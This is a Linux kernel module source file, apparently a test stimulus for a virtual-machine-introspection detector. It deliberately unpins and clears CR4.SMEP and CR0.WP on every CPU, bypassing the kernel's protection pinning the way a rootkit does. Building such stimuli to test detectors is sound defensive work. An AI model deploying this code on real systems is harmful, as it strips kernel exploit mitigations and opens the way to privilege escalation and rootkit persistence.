// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_cpu: switches off two CPU protections on every CPU and keeps them off, the way
 * a rootkit does it:
 * - CR0.WP (supervisor writes then ignore read-only pages), with a plain `mov` to CR0,
 *   which bypasses the kernel's pinning in native_write_cr0;
 * - CR4.SMEP (the kernel may then execute user pages): SMEP is first taken out of
 *   cr4_pinned_bits (read-only after boot: written with WP off), then cleared through
 *   the kernel's own cr4_clear_bits, so its per-CPU copy of CR4 agrees and a later
 *   global TLB flush, which rewrites CR4 from that copy, does not set it again.
 * The guest keeps running.
 */
#include <linux/module.h>
#include <linux/smp.h>
#include <asm/tlbflush.h>
#include "vmi_attack.h"

static void vmi_cpu_off(void *unused)
{
	cr4_clear_bits(X86_CR4_SMEP);
	vmi_cr0_write(read_cr0() & ~X86_CR0_WP);
}

static int __init vmi_cpu_init(void)
{
	unsigned long *pinned = (unsigned long *)vmi_lookup("cr4_pinned_bits");

	if (!pinned) {
		pr_err("vmi_cpu: cr4_pinned_bits not found\n");
		return -ENOENT;
	}
	VMI_WITH_WP_OFF(*pinned &= ~X86_CR4_SMEP);
	on_each_cpu(vmi_cpu_off, NULL, 1);
	pr_info("vmi_cpu: CR0.WP and CR4.SMEP cleared on every CPU, SMEP unpinned\n");
	return 0;
}

module_init(vmi_cpu_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmi detector test: clear CR0.WP and CR4.SMEP behind the kernel's back");
